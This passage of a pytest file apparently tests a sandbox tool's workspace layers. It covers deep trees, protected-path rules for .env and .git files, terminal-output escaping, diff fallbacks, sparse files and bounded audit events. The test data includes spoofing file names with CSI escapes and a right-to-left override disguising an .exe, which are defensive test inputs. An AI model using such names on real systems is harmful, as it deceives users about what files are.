        if os.path.lexists(ws / "d"):
            apply._remove_tree(root, "d", os.fstat(root).st_dev)
    finally:
        os.close(root)


def test_a_change_set_deeper_than_the_stack_and_path_max_plans_applies_and_diffs(ws: Path, remove_deep: None) -> None:
    s = Session(ws)
    for depth in range(1, DEPTH + 1):
        s.directory(deep_path(depth), 0o750)
    s.file(deep_path(DEPTH, "f"), b"at the bottom\n", 0o640)
    layer = s.done()
    lines = list(render(layer, s.changes[-2:]))
    assert lines[-1] == "+at the bottom" and lines[0].startswith("diff --vectraguard a/d/d/d/")
    plan = applied(layer)
    assert len(plan.steps) == DEPTH + 1 and not plan.refused
    assert read_deep(ws, deep_path(DEPTH, "f")) == (b"at the bottom\n", 0o640)
    assert stat.S_IMODE(os.stat(ws / "d").st_mode) == 0o750
    assert layer.record().state == store.APPLIED


def test_removing_a_tree_deeper_than_the_stack_and_path_max(ws: Path, remove_deep: None) -> None:
    make_deep(ws, DEPTH, b"deep\n")
    s = Session(ws)  # the baseline holds what is within PATH_MAX of the root
    layer = s.delete("d").file("README", b"after\n").done()
    applied(layer)
    assert not os.path.lexists(ws / "d")
    assert (ws / "README").read_text() == "after\n"


def _covers_by_recursion(pattern: list[str], parts: list[str]) -> bool:
    """The pattern language's definition, as protected.py once had it (recursive, copying)."""
    if not pattern:
        return True
    head, rest = pattern[0], pattern[1:]
    if head == "**":
        return any(_covers_by_recursion(rest, parts[i:]) for i in range(len(parts) + 1))
    return bool(parts) and fnmatch.fnmatchcase(parts[0], head) and _covers_by_recursion(rest, parts[1:])


def test_protection_matches_the_definition_without_recursion() -> None:
    from vectraguard.workspace import protected

    rng = random.Random(7)
    components = ["a", "b", ".git", "**", "*", "?", "[ab]", ".env*", "[!a]", "ß"]
    names = ["a", "b", ".git", ".GIT", ".env", ".envrc", "ss", "SS", "c", "ab"]
    for _ in range(20000):
        pattern = "/".join(rng.choice(components) for _ in range(rng.randint(1, 4)))
        path = "/".join(rng.choice(names) for _ in range(rng.randint(1, 7)))
        expected = _covers_by_recursion(protected._fold(pattern), protected._fold(path))
        assert (protected.why_protected(path, [pattern]) == pattern) is expected, (pattern, path)
    deep = deep_path(DEPTH)
    assert why_protected(f"{deep}/.env.local", PROTECTED) == "**/.env*"
    assert why_protected(f"{deep}/.git/objects/{deep}/.git/x", PROTECTED) == "**/.git"
    assert why_protected(f".git/objects/{deep}/.git", (*PROTECTED, "**/.git/**/.git")) == "**/.git/**/.git"
    assert why_protected(f".git/objects/{deep}", PROTECTED) is None


# -- what reaches the terminal ------------------------------------------------------------

# C0 and C1 controls (ESC, CSI), DEL, bidi overrides, isolates and marks, separators, lone surrogates.
UNSAFE = ["\x1b", "\x07", "\r", "\x7f", "\x80", "\x9b", "\x9f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
          "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c", "\u2028", "\u2029", "\udcff",
          "\ud800", "\U000e0001"]


@pytest.mark.parametrize("char", UNSAFE)
def test_printable_and_json_escape_controls_bidi_and_lone_surrogates(char: str) -> None:
    from vectraguard.output import json_text, printable

    text = f"a{char}b é中😀"
    shown = printable(text)
    assert char not in shown and shown.startswith("a\\") and shown.endswith("b é中😀")
    shown.encode("utf-8")  # strict: what stdout does
    document = json_text({"path": text, "list": [text]})
    assert char not in document and "é中😀" in document  # ordinary non-ASCII stays readable
    document.encode("utf-8")
    assert json.loads(document) == {"path": text, "list": [text]}
    assert "\n" not in json_text({"path": text}, indent=None)


@pytest.fixture
def strange(ws: Path) -> store.Layer:
    s = Session(ws)
    s.file(os.fsdecode(b"bad-\xff.txt"), b"not utf-8 name\n").file("csi-\u009b31m.txt", "\u009b31mred\n".encode())
    s.file("\u202etxt.exe", b"bidi\n").symlink("link-\u202e", "csi-\u009b31m.txt")
    return s.done()


def test_non_utf8_control_and_bidi_names_in_every_command(strange: store.Layer, ws: Path, tmp_path: Path) -> None:
    sid = strange.session_id
    raw = ("\udcff", "\x9b", "\u202e")
    outputs = {}
    for args in (["changes", sid], ["changes", sid, "--json"], ["changes", "--all", "--json"], ["diff", sid],
                 ["apply", sid, "--dry-run"], ["apply", sid]):
        result = vg(args, ws, tmp_path)  # text=True: a raw surrogate would not even decode
        assert result.returncode == 0 and "Traceback" not in result.stderr, (args, result.stderr)
        assert not any(char in result.stdout + result.stderr for char in raw), args
        outputs[" ".join(args).replace(sid, "ID")] = result.stdout
    json.loads(outputs["changes --all --json"])
    rows = json.loads(outputs["changes ID --json"])["changes"]
    assert {r["path"] for r in rows} == {os.fsdecode(b"bad-\xff.txt"), "csi-\u009b31m.txt", "\u202etxt.exe",
                                         "link-\u202e"}
    assert "\\udcff" in outputs["changes ID --json"] and "\\u009b" in outputs["changes ID --json"]
    assert "bad-\\xff.txt" in outputs["changes ID"] and "\\u202etxt.exe" in outputs["changes ID"]
    assert "+\\x9b31mred" in outputs["diff ID"].splitlines()
    assert "+link → csi-\\x9b31m.txt" in outputs["diff ID"].splitlines()
    assert "would apply: added bad-\\xff.txt" in outputs["apply ID --dry-run"].splitlines()
    assert (ws / os.fsdecode(b"bad-\xff.txt")).read_bytes() == b"not utf-8 name\n"
    assert os.path.exists(os.fsencode(ws) + b"/bad-\xff.txt")
    assert (ws / "\u202etxt.exe").read_text() == "bidi\n"


# -- diff of what difflib cannot do in time -----------------------------------------------

def alternating(count: int) -> tuple[bytes, bytes]:
    """Every other line changed: difflib's matcher is quadratic on it (20000 lines: about a minute)."""
    before = "".join(f"line {i}\n" for i in range(count))
    after = "".join(f"line {i}\n" if i % 2 == 0 else f"other {i}\n" for i in range(count))
    return before.encode(), after.encode()


def test_a_pathological_text_is_diffed_by_gnu_diff(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import vectraguard.workspace.diff as diff_module

    before, after = alternating(20000)
    (ws / "big.txt").write_bytes(before)
    s = Session(ws).file("big.txt", after)
    layer = s.done()

    def no_difflib(*args: object, **kwargs: object) -> Iterator[str]:
        raise AssertionError("difflib on two files")

    monkeypatch.setattr(diff_module.difflib, "unified_diff", no_difflib)
    lines = list(render(layer, s.changes))
    at = lines.index("--- a/big.txt")
    assert lines[at + 1:at + 5] == ["+++ b/big.txt", "@@ -1,20000 +1,20000 @@", " line 0", "-line 1"]
    assert lines[at + 5] == "+other 1"


def fake_diff(tmp_path: Path, body: str) -> str:
    program = tmp_path / "fake-diff"
    program.write_text(f"#!/bin/sh\n{body}\n")
    program.chmod(0o755)
    return str(program)


@pytest.mark.parametrize(("program", "why"), [
    (None, "diff(1) is not installed to show how"),
    ("exec sleep 30", "the diff was too slow to show"),
    ("echo oops; exit 2", "diff(1) failed (exit status 2)"),
])
def test_without_a_usable_diff_two_texts_are_shown_by_size_and_digest(
        ws: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, program: str | None, why: str) -> None:
    import vectraguard.workspace.diff as diff_module

    s = Session(ws).file("README", b"changed\n")
    layer = s.done()
    path = fake_diff(tmp_path, program) if program else None
    monkeypatch.setattr(diff_module.shutil, "which", lambda name: path)
    monkeypatch.setattr(diff_module, "DIFF_SECONDS", 0.5)
    lines = list(render(layer, s.changes))
    sha_before, sha_after = hashlib.sha256(b"read me\n").hexdigest(), hashlib.sha256(b"changed\n").hexdigest()
    assert lines[-1] == (f"Files a/README and b/README differ, {why}: 8 bytes, sha256 {sha_before} -> "
                         f"8 bytes, sha256 {sha_after}")


# -- sparse files -------------------------------------------------------------------------

GIB = 1 << 30
DATA_AT = 512 << 20


def sparse_blob(s: Session, path: str, size: int, offset: int, data: bytes) -> str:
    """A blob as the harvest stores a sparse file: its holes kept; its digest over the whole content."""
    digest = hashlib.sha256()
    zeros = bytes(1 << 20)
    for start, end in ((0, offset), (offset + len(data), size)):
        for at in range(start, end, len(zeros)):
            digest.update(zeros[:min(len(zeros), end - at)])
        if start == 0:
            digest.update(data)
    sha = digest.hexdigest()
    with open(changeset.blob_path(s.layer.path, sha), "wb") as blob:
        blob.truncate(size)
        blob.seek(offset)
        blob.write(data)
    s.changes.append(Change(path, s._action(path, FILE), FILE, s._before(path), 0o644, size, sha))
    return sha


def test_a_sparse_blob_applies_sparse_and_is_never_diffed_whole(ws: Path) -> None:
    s = Session(ws)
    data = os.urandom(4096)
    sha = sparse_blob(s, "huge.img", GIB, DATA_AT, data)
    if os.stat(changeset.blob_path(s.layer.path, sha)).st_blocks * 512 > 1 << 20:
        pytest.skip("this filesystem does not keep holes")
    layer = s.done()
    lines = list(render(layer, s.changes))
    assert lines[-1] == (f"Files /dev/null and b/huge.img differ, too large to diff (over {4 << 20} bytes): "
                         f"none -> {GIB} bytes, sha256 {sha}")
    applied(layer)
    info = os.stat(ws / "huge.img")
    assert info.st_size == GIB and info.st_blocks * 512 <= 1 << 20
    with open(ws / "huge.img", "rb") as written:
        assert os.pread(written.fileno(), 4096, DATA_AT) == data
        assert os.pread(written.fileno(), 4096, 0) == bytes(4096)
        assert os.pread(written.fileno(), 4096, GIB - 4096) == bytes(4096)
        assert os.pread(written.fileno(), 8192, DATA_AT - 4096) == bytes(4096) + data


def test_a_sparse_blob_altered_in_the_layer_is_caught(ws: Path) -> None:
    s = Session(ws)
    sha = sparse_blob(s, "huge.img", 64 << 20, 1 << 20, b"x" * 4096)
    layer = s.done()
    with open(changeset.blob_path(layer.path, sha), "r+b") as blob:
        blob.seek(32 << 20)
        blob.write(b"y")  # in a hole: a data range the change set's digest does not cover
    outcome = apply.execute(apply.plan(layer))
    assert "does not match" in outcome.failure and not (ws / "huge.img").exists()


def test_the_apply_and_discard_events_of_a_session_with_many_paths_are_bounded(ws: Path, tmp_path: Path) -> None:
    """A sandbox makes as many files as it likes: the audit events keep the first paths, a count and
    a digest of the whole list (the layer's history keeps every path an apply wrote)."""
    many = Session(ws).directory("gen")
    for i in range(2000):
        many.file(f"gen/{i:04d}-{'x' * 200}.txt", b"%d\n" % i)
    applied = many.done()
    dropped = Session(ws).directory("other")
    for i in range(2000):
        dropped.file(f"other/{i:04d}.txt", b"y\n")
    discarded = dropped.done()
    _record_run(tmp_path, applied.session_id)
    _record_run(tmp_path, discarded.session_id)
    assert vg(["apply", applied.session_id], ws, tmp_path).returncode == 0
    assert vg(["discard", discarded.session_id], ws, tmp_path).returncode == 0
    audit = open_store(tmp_path / "data" / "audit.db")
    try:
        bodies = {kind: (session, body) for session, kind, body in audit.db.execute(
            "SELECT session_id, kind, body FROM events")}
        assert verify(audit).problems == []
    finally:
        audit.close()
    for kind, session in (("workspace-applied", applied.session_id), ("workspace-discarded", discarded.session_id)):
        assert bodies[kind][0] == session and len(bodies[kind][1].encode()) < 64 * 1024
        event = json.loads(bodies[kind][1])
        assert len(event["paths"]) + event["paths_omitted"] == 2001 and len(event["paths_sha256"]) == 64
    history = applied.record().history[-1]["paths"]
    assert len(history) == 2001  # every path is still named where the layer is kept
